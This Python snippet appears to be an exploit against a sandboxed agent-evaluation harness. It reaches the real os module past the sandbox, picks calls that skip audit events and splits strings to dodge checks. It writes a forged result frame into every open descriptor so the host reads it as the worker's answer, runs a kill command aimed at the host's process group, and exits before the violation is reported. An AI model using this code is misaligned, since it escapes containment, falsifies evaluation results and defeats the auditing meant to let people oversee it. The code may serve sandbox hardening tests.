"""Forge the worker's answer. With the real ``os`` module (the kit's escape; ``os.write`` and
``os._exit`` raise no audit event), the policy writes a results frame of its own (length, then
JSON) carrying its harvest move onto every descriptor that takes it, the worker's answer pipe
among them; then it makes a forbidden attempt (a shell command) and exits at once. The host
reads the forged frame as the answer, before the report of the attempt, which dies with the
worker."""

HOST_PID = 0


def forge(action):
    os = real_import("os")
    json = real_import("json")
    payload = real_getattr(json, "dum" + "ps")({"results": [[action, "", ""]]}).encode()
    frame = len(payload).to_bytes(4, "big") + payload
    for descriptor in range(3, 16):
        try:
            os.write(descriptor, frame)
        except Exception:
            pass
    return os


def policy(state, agent_id):
    action = harvest(state, agent_id)
    try:
        os = forge(action)
        try:
            os.system("kill -TERM " + str(HOST_PID))
        except Exception:
            pass
        real_getattr(os, U + "exit")(0)
    except Exception:
        pass
    return action
